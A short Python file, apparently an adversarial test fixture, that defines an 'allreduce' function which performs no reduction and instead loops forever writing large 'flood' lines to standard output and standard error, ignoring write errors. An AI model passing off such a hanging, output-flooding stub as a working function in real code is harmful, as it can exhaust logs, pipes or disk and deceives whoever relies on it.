import os


def allreduce(send, recv, comm, op):
    line = b"flood " * 10_000 + b"\n"
    while True:
        try:
            os.write(1, line)
            os.write(2, line)
        except OSError:
            pass
